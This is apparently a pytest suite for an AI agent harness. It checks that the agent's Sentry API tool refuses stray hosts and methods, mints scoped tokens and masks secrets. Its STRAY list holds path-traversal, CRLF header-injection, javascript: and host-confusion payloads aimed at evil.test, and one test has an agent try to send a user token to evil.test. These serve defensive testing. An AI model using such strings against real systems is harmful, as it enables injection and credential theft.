"""The tools of an agent: the API of its own Sentry, with what belongs to the run, and no more."""

from __future__ import annotations

import json
from typing import Any
from urllib.parse import urlsplit

import httpx
import pytest

from harness.seer.agent.actions import Ask, Execute, Found, Mint, Reply, Request, Say, Search
from harness.seer.tools import OutsideError, locate
from harness.signing import sign
from tests.scenario import theatre
from tests.seer.service.conftest import MakeHouse
from tests.seer.service.house import READ, RENAME, SECRET, Agent, House, acting

BASE = "http://127.0.0.1:9000"

#: Paths that lead to the API as they are written.
PLAIN = [
    "/api/0/",
    "/api/0/organizations/acme/",
    "/api/0/organizations/acme/releases/web-app@1.0.0/",
    "/api/0/organizations/acme/releases/a%20b%2Bc/",
    "/api/0/projects/acme/web/keys/?",
    "/api/0/teams/acme/(crew)!$&'*+,;=~:-_./",
    "/api/0/organizations/...",
]
#: Texts that lead elsewhere, or might when somebody tidies them up.
STRAY = [
    "",
    "/",
    "api/0/",
    "/api/0",
    "/api/1/x",
    "/api/00/x",
    "/API/0/x",
    "/control/audit/",
    "/auth/login/",
    "//evil.test/api/0/",
    "///evil.test/api/0/",
    "/\\evil.test/api/0/",
    "\\\\evil.test\\api\\0\\",
    "/api/0//evil.test/",
    "/api/0/a//b/",
    "http://evil.test/",
    "https://evil.test/api/0/",
    "HTTP://EVIL.TEST/api/0/",
    "http:/api/0/",
    "http:evil.test/api/0/",
    "http://127.0.0.1:9000/api/0/",
    "http://127.0.0.1:9000@evil.test/api/0/",
    "ftp://evil.test/api/0/",
    "file:///",
    "javascript:alert(1)",
    "data:,x",
    "@evil.test/api/0/",
    ".evil.test/api/0/",
    ":80/api/0/",
    ":@evil.test/api/0/",
    "0/api/0/",
    "?x=/api/0/",
    "#/api/0/",
    "/api/0/../../control/reset/",
    "/api/0/..",
    "/api/0/../",
    "/api/0/.",
    "/api/0/./x",
    "/api/0/x/../../../auth/",
    "/api/0/%2e%2e/%2e%2e/control/",
    "/api/0/%2E%2E/x",
    "/api/0/.%2e/x",
    "/api/0/%2e/x",
    "/api/0/%252e%252e/x",
    "/api/0/..%2f..%2fcontrol/",
    "/api/0/..%252f..%252fcontrol/",
    "/api/0/%2f%2fevil.test/",
    "/api/0/a%2f%2fb/",
    "/api/0/a%5cb",
    "/api/0/a%255cb",
    "/api/0/..\\..\\control\\",
    "/api/0/a b",
    "/api/0/\tx",
    "/api/0/x\n",
    "/api/0/x\r\nHost: evil.test",
    "\n/api/0/",
    " /api/0/",
    "/api/0/x ",
    "/api/0/x?y=z",
    "/api/0/x#y",
    "/api/0/x\0",
    "/api/0/\u2025/x",
    "/api/0/\uff0e\uff0e/x",
    "/api/0/\u3002\u3002/x",
    "/api/0/\xe9",
    "/api/0/[::1]",
    "/api/0/<x>",
    "/api/0/{organization}/",
    '/api/0/"x"',
    "/api/0/x|y",
    "/api/0/x^y`",
]


@pytest.mark.parametrize("path", [path for path in PLAIN if "?" not in path])
def test_a_plain_path_is_called_as_it_is(path: str) -> None:
    url = locate(BASE, path)
    sent = httpx.Request("GET", url).url
    assert (sent.scheme, sent.host, sent.port) == ("http", "127.0.0.1", 9000)
    assert sent.raw_path.decode() == path
    assert urlsplit(url).netloc == "127.0.0.1:9000"


@pytest.mark.parametrize("path", [*STRAY, *(path for path in PLAIN if "?" in path)])
def test_a_path_that_strays_is_not_called(path: str) -> None:
    assert len(STRAY) >= 60
    with pytest.raises(OutsideError):
        locate(BASE, path)


def test_an_agent_that_strays_sends_nothing_at_all(house: House) -> None:
    house.agents["go"] = acting(*(Execute(Request("GET", path)) for path in STRAY))
    house.chat(1, "go", user_auth_token="sntryu_handed")
    house.settle()
    assert house.state(1)["status"] == "completed"
    refusal = "The tool calls the API of this organization's Sentry."
    assert house.outcomes(1) == [refusal] * len(STRAY)
    assert {entry["rule"] for entry in house.audit("tool")} == {"other-host"}
    assert house.network.since(0) == []


@pytest.mark.parametrize(
    "method", ["get", "HEAD", "OPTIONS", "TRACE", "CONNECT", "GET ", "", "X\n"]
)
def test_other_methods_are_not_sent(house: House, method: str) -> None:
    house.agents["go"] = acting(Execute(Request(method, READ.path)))
    house.chat(1, "go")
    house.settle()
    assert house.outcomes(1) == ["That is no method of the API."]
    assert house.sentry.seen == []


class Asker:
    """An agent that keeps what comes of its actions."""

    def __init__(self, *actions: Any) -> None:
        self.actions, self.results = actions, list[Any]()

    def __call__(self) -> Agent:
        for action in self.actions:
            self.results.append((yield action))


def play(house: House, *actions: Any, **chat: Any) -> list[Any]:
    """What comes of an agent's actions in a run of its own."""
    house.agents["go"] = asker = Asker(*actions)
    house.chat(1, "go", **chat)
    house.settle()
    return asker.results


def test_a_call_goes_out_with_query_body_and_token(house: House) -> None:
    call = Request("POST", "/api/0/x/", {"q": "a b&c", "e": "\u00e9"}, {"name": "\u00fc"})
    (reply,) = play(house, Execute(call, "sntryag_own"), user_auth_token="sntryu_handed")
    (seen,) = house.sentry.seen
    assert seen.path == "/api/0/x/?q=a+b%26c&e=%C3%A9"
    assert seen.json == {"name": "\u00fc"}
    assert seen.headers["authorization"] == "Bearer sntryag_own"
    assert seen.headers["content-type"] == "application/json"
    assert (reply.status, reply.body, reply.ok) == (200, {"fine": True}, True)


def test_without_a_token_what_was_handed_over_is_shown(house: House) -> None:
    play(house, Execute(READ), user_auth_token="sntryu_handed")
    assert house.sentry.seen[0].headers["authorization"] == "Bearer sntryu_handed"
    play(house, Execute(READ))
    assert "authorization" not in house.sentry.seen[1].headers
    assert "x-viewer-context" not in house.sentry.seen[1].headers


@pytest.mark.parametrize("text", ["", "no json", "[" * 9000, "<html>"])
def test_an_answer_that_is_no_json_is_a_text(house: House, text: str) -> None:
    house.sentry.answers["*"] = (200, {}, text)
    (reply,) = play(house, Execute(READ))
    assert reply.body == (text or None)


def test_no_answer_is_told_and_the_agent_goes_on(house: House) -> None:
    house.network.join("sentry", "http://127.0.0.1:1")
    reply, _ = play(house, Execute(READ), Say("on"))
    assert reply == Reply(0, refusal="There was no answer: ConnectError.")
    assert house.said(1) == ["on"]


def test_with_tools_off_nothing_is_called_or_found(house: House) -> None:
    reply, found = play(house, Execute(READ), Search("projects"), enable_code_mode_tools=False)
    assert reply == Reply(0, refusal="This run has no tools for the API.")
    assert found == Found(())
    assert house.sentry.seen == []
    assert [entry["decision"] for entry in house.audit("tool")] == ["deny", "deny"]


def test_a_search_gives_operations_that_scopes_open_best_first(house: House) -> None:
    teams, nothing, many, change = play(
        house,
        Search("delete a team"),
        Search("zzz the of"),
        Search("organizations"),
        Search("RENAME organization!"),
    )
    first = teams.operations[0]
    assert (first.method, first.path) == (
        "DELETE",
        "/api/0/teams/{organization_id_or_slug}/{team_id_or_slug}/",
    )
    assert first.scopes == ("team:admin",)
    assert nothing == Found(())
    assert len(many.operations) == 10
    assert change.operations[0].method == "PUT"
    words = {"open", "account", "basic", "first-party"}
    for found in (teams, many, change):
        assert all(words.isdisjoint(operation.scopes) for operation in found.operations)
        assert not any("/seer/" in operation.path for operation in found.operations)
    assert house.outcomes(1) == ["10 found", "0 found", "10 found", "10 found"]


def test_a_run_mints_for_its_session_on_behalf_of_its_user(house: House) -> None:
    minted = {"token": "sntryag_new", "expiresAt": "x", "scopes": []}
    house.sentry.answers["*"] = (200, {}, minted)
    everything, some = play(house, Mint(), Mint(("org:read",)), user_auth_token="sntryu_handed")
    assert everything.body == some.body == minted
    first, second = house.sentry.seen
    assert first.method == "POST"
    assert first.path == "/api/0/organizations/acme/agent/token/"
    assert first.json == {"sessionId": "explorer-1"}
    assert second.json == {"sessionId": "explorer-1", "requestedScopes": ["org:read"]}
    context = '{"organization_id":42,"user_id":7}'
    assert first.headers["x-viewer-context"] == context
    assert first.headers["x-viewer-context-signature"] == sign(SECRET, context.encode())
    assert "authorization" not in first.headers
    assert [entry["decision"] for entry in house.audit("mint")] == ["allow", "allow"]


def test_a_mint_that_is_refused_is_told(house: House) -> None:
    house.sentry.answers["*"] = (404, {}, {"detail": "off"})
    (reply,) = play(house, Mint())
    assert (reply.status, reply.ok) == (404, False)
    assert house.audit("mint")[0]["decision"] == "deny"


def test_the_slug_of_an_organization_is_one_part_of_the_path(house: House) -> None:
    play(house, Mint(), user_org_context={"organization_slug": "../../control?x#y"})
    path = house.sentry.seen[0].path
    assert path == "/api/0/organizations/../../control?x#y/agent/token/"
    (sent,) = house.network.since(0)
    assert urlsplit(sent["url"]).path.startswith(
        "/api/0/organizations/..%2F..%2Fcontrol%3Fx%23y/agent/"
    )


def test_what_was_denied_twice_is_not_sent_again(house: House) -> None:
    house.sentry.answers["*"] = (403, {}, {})
    replies = play(house, *[Execute(RENAME)] * 5, Execute(READ))
    assert [reply.status for reply in replies] == [403, 403, 0, 0, 0, 403]
    assert replies[2].refusal == "That was denied before, and is not sent again."
    assert len(house.sentry.seen) == 3
    again = play(house, Execute(RENAME))
    assert again[0].status == 403


def test_a_success_forgets_denials_and_so_does_an_approval(make_house: MakeHouse) -> None:
    house = make_house(denials=1)
    answers: list[theatre.Reply] = [(401, {}, {}), (200, {}, {})]
    house.sentry.answers[f"PUT {RENAME.path}"] = answers
    replies = play(
        house, Execute(RENAME), Execute(RENAME), Ask(("org:write",), RENAME), Execute(RENAME)
    )
    assert [reply.status for reply in replies] == [401, 0]
    house.answer(1, "approve")
    house.settle()
    assert len(house.sentry.seen) == 2


TOKENS = {"handed": "sntryu_" + "a1" * 32, "minted": "sntryag_x.y-z_0.w", "found": "sntryag_f.o.o"}


def test_no_token_of_a_run_is_shown_in_it(house: House) -> None:
    """Wherever its agent puts one."""
    house.sentry.answers["*"] = (200, {}, {"token": TOKENS["minted"]})
    text = " ".join(TOKENS.values())
    play(
        house,
        Mint(),
        Execute(READ, TOKENS["found"]),
        Say(f"here: {text}"),
        Execute(Request("GET", f"/api/0/{TOKENS['minted']}/")),
        Execute(Request("GET", f"http://evil.test/{TOKENS['handed']}")),
        Execute(Request(TOKENS["handed"], "/api/0/")),
        Search(text),
        Ask((TOKENS["handed"],), Request("GET", f"/api/0/{TOKENS['minted']}/")),
        user_auth_token=TOKENS["handed"],
    )
    assert house.state(1)["status"] == "awaiting_user_input"
    shown = json.dumps([house.state(1), house.audit(), house.log()])
    house.answer(1, "reject", reason=TOKENS["found"][:64])
    house.settle()
    shown += json.dumps([house.state(1), house.audit(), house.log()])
    for token in TOKENS.values():
        assert token not in shown
    assert house.said(1)[0] == "here: [token] [token] [token]"


def test_a_long_text_is_cut_after_it_was_masked(house: House) -> None:
    token = TOKENS["handed"]
    play(house, Say("x" * 19_990 + token), user_auth_token=token)
    assert house.said(1) == ["x" * 19_990 + "[token]"]
    play(house, Say("x" * 30_000), user_auth_token=token)
    assert house.said(1)[-1] == "x" * 20_000
